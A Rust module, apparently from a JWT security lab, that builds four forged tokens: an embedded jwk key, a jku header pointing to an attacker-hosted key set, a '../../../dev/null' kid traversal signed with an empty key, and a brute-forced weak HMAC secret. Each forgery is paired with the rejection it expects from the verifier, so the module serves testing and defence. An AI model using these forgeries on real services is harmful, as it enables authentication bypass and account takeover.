//! Attacks on a verifier that lets the token say which key it is to be checked
//! with (RFC 8725 §3.10), or whose key can be guessed (§3.5).

use serde_json::Value;
use shared::error::ErrorCode;
use shared::lab::forge::{ATTACKER_KEYS, ATTACKER_URL, AttackerKeys};
use shared::trace::Check;

use super::{Attack, Expected, Id};
use crate::api;
use crate::api::experiment::{Experiment, Method};
use crate::lab::crypto::{Alg, Key, generate};
use crate::lab::forge::bench::{Bench, Forged, Genuine, Signature, Snag};

const HEADER: Expected = Expected::by(Check::Header, ErrorCode::TokenHeaderRejected);
const UNKNOWN: Expected = Expected::by(Check::Key, ErrorCode::TokenKeyUnknown);

pub(super) static ATTACKS: [Attack; 4] = [
    Attack {
        id: Id::Jwk,
        make: |bench| Box::pin(key_in_token(bench)),
        expected: HEADER,
        convinces: true,
    },
    Attack {
        id: Id::Jku,
        make: |bench| Box::pin(key_at_address(bench)),
        expected: HEADER,
        convinces: true,
    },
    Attack {
        id: Id::KidPath,
        make: |bench| Box::pin(path_to_nothing(bench)),
        expected: UNKNOWN,
        convinces: true,
    },
    Attack {
        id: Id::WeakSecret,
        make: |bench| Box::pin(weak_secret(bench)),
        expected: UNKNOWN,
        convinces: true,
    },
];

/// A key pair of one's own, its public half in the header.
async fn key_in_token(bench: Bench) -> Result<Forged, Snag> {
    let mut genuine = bench.genuine().await?;
    let changed = genuine.promote();
    let own = generate(Alg::Es256).await?;
    genuine.set_header("alg", Alg::Es256.as_str());
    genuine.set_header("jwk", object(&own.public_jwk)?);
    let key = Key::Jwk(own.private_jwk);
    let token = genuine.signed(Alg::Es256, &key).await?;
    let header = vec!["alg", "jwk"];
    Ok(genuine.forged(token, [header, changed], Signature::Attackers))
}

/// The same key on the attacker's own site, and its address in the header.
async fn key_at_address(bench: Bench) -> Result<Forged, Snag> {
    const KID: &str = "attacker-1";
    let mut genuine = bench.genuine().await?;
    let changed = genuine.promote();
    let own = generate(Alg::Es256).await?;
    let mut public = object(&own.public_jwk)?;
    public["kid"] = KID.into();
    let site = AttackerKeys { keys: vec![public] };
    let put = Experiment::new(Method::PUT, ATTACKER_KEYS).json(&site);
    if put.send().await.status() != Some(204) {
        return Err(Snag::Unexpected);
    }
    genuine.set_header("alg", Alg::Es256.as_str());
    genuine.set_header("kid", KID);
    genuine.set_header("jku", ATTACKER_URL);
    let key = Key::Jwk(own.private_jwk);
    let token = genuine.signed(Alg::Es256, &key).await?;
    let header = vec!["alg", "kid", "jku"];
    Ok(genuine.forged(token, [header, changed], Signature::Attackers))
}

/// A path to a file that is empty everywhere, and a signature with an empty key.
async fn path_to_nothing(bench: Bench) -> Result<Forged, Snag> {
    let mut genuine = bench.genuine().await?;
    let changed = genuine.promote();
    genuine.set_header("alg", Alg::Hs256.as_str());
    genuine.set_header("kid", "../../../dev/null");
    let key = Key::Secret(Vec::new());
    let token = genuine.signed(Alg::Hs256, &key).await?;
    let header = vec!["alg", "kid"];
    Ok(genuine.forged(token, [header, changed], Signature::Empty))
}

/// One token of the colleague's is enough to find the secret; then another one is
/// signed with it.
async fn weak_secret(bench: Bench) -> Result<Forged, Snag> {
    let token = api::forge::colleagues_token(&bench.auth.client()).await?;
    let secret = bench.guess.secret_of(&token).await?;
    let mut genuine = Genuine::of(token, false)?;
    let changed = genuine.promote();
    let key = Key::Secret(secret.into_bytes());
    let token = genuine.signed(Alg::Hs256, &key).await?;
    Ok(genuine.forged(token, [vec![], changed], Signature::Guessed))
}

fn object(json: &str) -> Result<Value, Snag> {
    serde_json::from_str(json).map_err(|_| Snag::Unexpected)
}
